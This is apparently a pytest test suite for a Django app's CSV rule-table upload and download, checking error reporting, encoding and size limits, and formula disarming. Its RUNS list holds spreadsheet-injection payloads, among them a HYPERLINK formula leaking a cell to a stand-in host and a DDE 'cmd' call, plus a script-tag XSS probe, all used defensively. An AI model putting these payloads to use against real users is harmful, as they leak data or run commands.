"""Tables out of a spreadsheet program: what differs becomes a proposal, and every wrong cell is named."""

from __future__ import annotations

import csv
import io
import re
from contextlib import suppress
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given, strategies as st

from tessera.access import csv_tables, editions
from tessera.access.csv_tables import changes_to, read_csv, write_csv
from tessera.access.models import Proposal
from tessera.access.tables import COLUMNS, TablesWrong, read_tables
from tessera.access.tests.invented import CARE, VISIT, tables
from tessera.access.tests.proposing import counts_now, lines
from tessera.common.disarming import disarmed
from tessera.common.formulas import looks_like_formula


def as_csv(rows, encoding="utf-8", **how):
    written = io.StringIO(newline="")
    writer = csv.DictWriter(written, list(dict.fromkeys(key for row in rows for key in row)), **how)
    writer.writeheader()
    writer.writerows(rows)
    return written.getvalue().encode(encoding)


def upload(house, shared, content, table="rules", name="rules.csv"):
    file = SimpleUploadedFile(name, content, content_type="text/csv")
    address = reverse("upload-rule-table", kwargs={"vault": shared.pk})
    return house.browser(house.marta).post(address, {"table": table, "file": file})


def proposals(house, shared):
    with house.open(house.marta, shared):
        return list(Proposal.objects.values_list("title", "changes"))


def wrong_in(table, content):
    """Row and code of what `read_csv` refuses; nothing where it reads it."""
    try:
        read_csv(table, content)
    except TablesWrong as wrong:
        return [(error.row, error.code) for error in wrong.errors]
    return []


# Through the browser


@pytest.mark.parametrize("table", COLUMNS)
def test_a_table_sent_back_as_it_was_downloaded_changes_nothing(house, shared, table):
    address = reverse("rule-table", kwargs={"vault": shared.pk, "table": table})
    content = house.browser(house.marta).get(address).content
    answer = upload(house, shared, content, table)
    assert "It says the same as the table that counts now." in answer.content.decode()
    assert proposals(house, shared) == []


RUNS = (
    '=HYPERLINK("http://law.example/?"&A1)',
    "@SUM(A1)",
    "+1+cmd|' /c calc'!A0",
    "- at the door",
    "'=1",
    "''=1",
    "a;=1",
)


@pytest.mark.parametrize("cell", RUNS)
def test_a_spreadsheet_program_runs_nothing_of_a_table_and_it_comes_back_as_it_was(house, shared, cell):
    counts_now(tables(rules={"limits:en": cell, "source": f"A law\n{cell}"}))
    address = reverse("rule-table", kwargs={"vault": shared.pk, "table": "rules"})
    content = house.browser(house.marta).get(address).content
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for part in (part for said in row for part in re.split("[;\t\r\n]", said)):
            assert not looks_like_formula(part)
    assert "It says the same as the table that counts now." in upload(house, shared, content).content.decode()
    assert proposals(house, shared) == []
    changed = content.replace(b"Emergency care", b"Care, at once")
    assert upload(house, shared, changed).status_code == 302
    assert proposals(house, shared)[0][1]["rules"]["care"][0]["limits:en"] == cell


def test_what_differs_becomes_a_proposal(house, shared):
    newer = CARE | {"ask:en": 'You can, "always",\nask.'}
    answer = upload(house, shared, as_csv([newer, VISIT]))
    with house.open(house.marta, shared):
        made = Proposal.objects.get()
    assert answer.headers["Location"].endswith(f"/{made.uid}/")
    assert (made.title, made.changes) == ("Table rules", {"rules": {"care": [newer]}})
    assert [verb for verb, _by in lines(house, shared, made)] == ["rules.proposed"]


def test_every_wrong_cell_is_named_by_table_row_and_column_and_nothing_is_kept(house, shared):
    before = lines(house, shared)
    wrong = [CARE | {"says": "can", "as_of": "soon"}, VISIT | {"where": "Ghana", "title:en": ""}]
    said = upload(house, shared, as_csv(wrong)).content.decode()
    for where in (
        "Rules, row 2, column says:",
        "Rules, row 2, column as_of:",
        "Rules, row 3, column where:",
        "Rules, row 3, column title:en:",
    ):
        assert where in said
    assert "Nothing was kept." in said
    assert proposals(house, shared) == []
    assert {verb for verb, _by in lines(house, shared)[len(before) :]} == {"form.shown"}


@pytest.mark.parametrize(
    ("sent", "row"),
    [
        (as_csv([CARE | {"code": "new", "says": "can"}, CARE, VISIT]), 2),
        (as_csv([VISIT, CARE | {"says": "can"}]), 3),
        (as_csv([CARE, VISIT | {"says": "can"}]).replace(b"\r\nvisit", b"\r\n\r\n , \r\nvisit"), 5),
        (as_csv([CARE | {"ask:en": "Two\nlines."}, VISIT | {"says": "can"}]), 3),
    ],
)
def test_a_wrong_cell_is_named_by_its_row_in_the_file_that_was_sent(house, shared, sent, row):
    said = upload(house, shared, sent).content.decode()
    assert f"Rules, row {row}, column says:" in said
    assert said.count("column says:") == 1


def test_what_goes_wrong_in_another_table_is_named_by_its_row_there(house, shared):
    said = upload(house, shared, as_csv([VISIT, CARE | {"where": "DE"}])).content.decode()
    assert "Example persons, row 2, column expected:" in said


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (
            as_csv([CARE | {"ask:en": "Atención"}], "latin-1"),
            "Rules, row 1, column –: The file is not in UTF-8.",
        ),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "The file is not in UTF-8."),
        (b"code\0says\n", "This is no table in CSV that can be read."),
        (as_csv([CARE]) + b"care,may\r\n", "Rules, row 3, column –: This row has more or fewer cells"),
        (as_csv([CARE, VISIT], delimiter=";"), "This row has more or fewer cells than there are headings"),
        (
            as_csv([CARE | {"permit": "none"}, VISIT | {"permit": ""}]),
            "Rules, row 1, column permit: Nobody knows",
        ),
        (b"<html><script>alert(1)</script></html>\nx\n", "This column is missing."),
        (b" ", "There is no rule called “care”."),
    ],
)
def test_what_is_no_such_table_is_refused_in_words_and_nothing_is_kept(house, shared, content, said):
    answer = upload(house, shared, content)
    assert answer.status_code == 200
    assert said in answer.content.decode()
    assert "<script>alert" not in answer.content.decode()
    assert proposals(house, shared) == []
    assert not list((Path(settings.DATA) / "incoming").glob("*"))


def test_a_table_of_another_kind_is_refused(house, shared):
    for name in COLUMNS:
        answer = upload(house, shared, as_csv([CARE, VISIT]), table=name)
        assert answer.status_code == 200, name
    assert upload(house, shared, as_csv([CARE, VISIT]), table="members").context["form"].errors
    assert proposals(house, shared) == []


def test_a_hundred_mistakes_are_no_endless_page(house, shared):
    many = [CARE | {"code": f"care-{number}", "says": "can"} for number in range(1_000)]
    answer = upload(house, shared, as_csv(many))
    assert answer.content.decode().count(": “can” is none of") == 50
    assert proposals(house, shared) == []


def test_a_rule_that_is_left_out_of_the_table_is_taken_out_by_the_proposal(house, shared):
    answer = upload(house, shared, as_csv([CARE]))
    assert "There is no rule called “visit”." in answer.content.decode(), "its person is still beside it"
    assert proposals(house, shared) == []


# Reading a file

_cell = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0\r"), max_size=12).map(
    str.strip
)
_tables = st.lists(_cell.filter(bool), min_size=1, max_size=4, unique=True).flatmap(
    lambda columns: st.lists(
        st.fixed_dictionaries(dict.fromkeys(columns, _cell)).filter(lambda row: any(row.values())),
        min_size=1,
        max_size=4,
    )
)


_whatever = st.text(st.sampled_from("='+-@;\t\n\r1a "), max_size=8).map(str.strip)


@given(st.lists(_whatever, min_size=1, max_size=4))
def test_whatever_stands_in_a_cell_goes_out_and_comes_back_the_same(said):
    rows = [dict.fromkeys(COLUMNS["questions"], "q") | {"text:en": one} for one in said]
    assert list(read_csv("questions", write_csv("questions", rows)).values()) == rows


@given(_tables, st.sampled_from(["\r\n", "\n"]), st.sampled_from(["utf-8", "utf-8-sig"]), st.integers(0, 1))
def test_what_a_spreadsheet_program_writes_is_read_as_it_was_written(rows, ending, encoding, quoting):
    sent = [{column: disarmed(said) for column, said in row.items()} for row in rows]
    read = read_csv("rules", as_csv(sent, encoding, lineterminator=ending, quoting=quoting))
    assert list(read.items()) == list(enumerate(rows, start=2))


@given(st.binary(max_size=200) | st.text(max_size=60).map(str.encode), st.sampled_from(list(COLUMNS)))
def test_whatever_bytes_are_sent_are_rows_that_can_be_proposed_or_refused(content, table):
    with suppress(TablesWrong):
        rows = read_csv(table, content)
        assert all(isinstance(value, str) for row in rows.values() for value in (*row, *row.values()))
        read_tables(editions.with_changes(tables(), changes_to(tables(), table, rows)))


@pytest.mark.parametrize(
    ("content", "row", "code"),
    [
        (b"code,says\ncare,may,more\n", 2, "row_uneven"),
        (b"code,says\ncare,may\ncare\n", 3, "row_uneven"),
        (b'code,says\n"two\nlines",may\ncare\n', 3, "row_uneven"),
        (b"code,says\n\n , \ncare\n", 4, "row_uneven"),
        (b'code,says\n"care"x,may\n', 2, "no_table"),
        (b"code,says,says\ncare,may,may-not\n", 1, "twice"),
        ("code,says\ncaf\u00e9,may\n".encode("latin-1"), 1, "no_utf8"),
        ("code,says\ncare,may\n".encode("utf-16"), 1, "no_utf8"),
    ],
)
def test_a_file_that_is_no_table_is_refused_at_its_row(content, row, code):
    assert wrong_in("rules", content) == [(row, code)]


@pytest.mark.parametrize(
    "content",
    [b'code,says\n"care,may\n', b'code,says\n"care"x,may\n', b"code\n" + b"a" * 140_000 + b"\n", b"a\0b\n"],
)
def test_a_file_whose_cells_do_not_end_is_no_table(content):
    assert [code for _row, code in wrong_in("rules", content)] == ["no_table"]


def test_a_table_has_an_end(monkeypatch):
    monkeypatch.setattr(csv_tables, "MOST_ROWS", 3)
    assert wrong_in("rules", b"code\n" + b"a\n" * 3) == []
    assert wrong_in("rules", b"code\n" + b"a\n" * 4) == [(5, "row_uneven")]
    monkeypatch.setattr(csv_tables, "MOST_BYTES", 10)
    assert wrong_in("rules", b"code\n12345") == []
    assert wrong_in("rules", b"code\n123456") == [(1, "no_table")]


def test_a_file_that_is_too_large_is_not_said_to_be_in_another_encoding():
    """Cut at its largest size, it would end in the middle of a letter."""
    assert wrong_in("rules", b"c" + "é".encode() * csv_tables.MOST_BYTES) == [(1, "no_table")]


def test_a_file_of_megabytes_is_refused_by_the_page(house, shared):
    answer = upload(house, shared, b"code\n" + b"a\n" * csv_tables.MOST_BYTES)
    assert "This is no table in CSV that can be read." in answer.content.decode()
    assert proposals(house, shared) == []


def test_lines_that_hold_nothing_are_counted_and_are_no_rows():
    sent = b"code,says\n\n,\n ,\t\n  \ncare, may \n ,\n"
    assert read_csv("rules", sent) == {6: {"code": "care", "says": "may"}}
    assert read_csv("rules", b"") == read_csv("rules", b"code,says\n") == {}
